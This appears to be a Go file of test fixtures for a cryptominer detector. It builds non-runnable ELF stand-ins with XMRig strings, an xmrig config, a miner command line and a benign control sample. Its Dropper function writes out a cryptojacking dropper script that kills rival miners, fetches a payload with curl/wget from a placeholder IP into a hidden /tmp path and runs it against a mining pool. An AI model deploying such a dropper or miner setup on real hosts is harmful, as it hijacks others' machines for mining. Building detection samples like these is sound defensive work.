package samples

import (
	"bytes"
	"encoding/binary"
)

// ELF returns a minimal, non-runnable 64-bit ELF header followed by the
// given strings, NUL-separated, padded with filler so it looks like a
// binary rather than text.
func ELF(strs ...string) []byte {
	var b bytes.Buffer
	hdr := make([]byte, 64)
	copy(hdr, []byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0})
	binary.LittleEndian.PutUint16(hdr[16:], 2)    // ET_EXEC
	binary.LittleEndian.PutUint16(hdr[18:], 0x3e) // x86-64
	binary.LittleEndian.PutUint32(hdr[20:], 1)
	b.Write(hdr)
	b.Write(Filler(4096))
	for _, s := range strs {
		b.WriteString(s)
		b.WriteByte(0)
		b.Write(Filler(512))
	}
	return b.Bytes()
}

// Filler returns n deterministic bytes that look like machine code.
func Filler(n int) []byte {
	b := make([]byte, n)
	x := uint32(2463534242)
	for i := range b {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b[i] = byte(x)
	}
	return b
}

// XMRig is a stand-in for an XMRig build: an ELF carrying the strings a real
// one prints and embeds (version banner, donate options, algorithms, pool
// protocol), and nothing that runs.
func XMRig() []byte { return ELF(XMRigStrings()...) }

// XMRigStrings are the strings XMRig carries, as XMRig embeds them.
func XMRigStrings() []string {
	return []string{
		"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
		" * ABOUT        XMRig/6.21.0 gcc/12.2.0",
		"--donate-level=N       donate level, default 1%%",
		"donate.v2.xmrig.com:3333",
		"stratum+tcp://",
		"randomx",
		"cryptonight/r",
		"rx/0",
		"xmrig.com",
	}
}

// Dropper is a shell script in the style of the cron droppers of mining
// campaigns: fetch, chmod, run against a pool, raise huge pages, kill rivals.
// The host names are reserved example names; nothing here can download.
func Dropper() []byte {
	return []byte(`#!/bin/sh
pkill -f kdevtmpfsi; pkill -f xmrig
echo 128 > /proc/sys/vm/nr_hugepages
curl -fsSL http://198.51.100.7/k.sh -o /tmp/.x/kworker || wget -q http://198.51.100.7/k.sh -O /tmp/.x/kworker
chmod +x /tmp/.x/kworker
/tmp/.x/kworker -o stratum+tcp://pool.example.invalid:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1 -B
`)
}

// MinerCmd is a miner's command line as it appears in an image config's
// Entrypoint or Cmd.
func MinerCmd() []string {
	return []string{"/usr/local/bin/node-agent", "-o", "stratum+tcp://pool.example.invalid:4444",
		"-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
		"--donate-level", "1", "-k", "--coin", "monero"}
}

// XMRigConfig is an xmrig-style config.json.
func XMRigConfig() []byte {
	return []byte(`{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 100},
    "randomx": {"init": -1, "mode": "auto", "1gb-pages": false},
    "pools": [
        {
            "algo": "rx/0",
            "url": "pool.example.invalid:3333",
            "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ]
}
`)
}

// Benign returns ordinary file content: a small script and an ELF with
// everyday strings.
func Benign() (script, binary []byte) {
	return []byte("#!/bin/sh\nset -e\nexec /usr/sbin/nginx -g 'daemon off;'\n"),
		ELF("GLIBC_2.34", "usage: %s [options]", "libc.so.6", "Copyright (C) 2024")
}
